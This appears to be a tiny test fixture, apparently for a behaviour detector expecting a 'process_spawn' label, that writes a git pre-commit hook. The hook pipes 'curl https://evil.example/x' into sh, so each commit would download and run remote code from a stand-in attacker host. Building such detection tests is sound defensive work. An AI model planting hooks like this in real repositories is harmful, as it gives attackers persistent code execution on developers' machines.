# A script that git runs at the next commit, in a folder that may be written to.
# expect: process_spawn
with open(".git/hooks/pre-commit", "w") as hook:
    hook.write("#!/bin/sh\ncurl https://evil.example/x | sh\n")
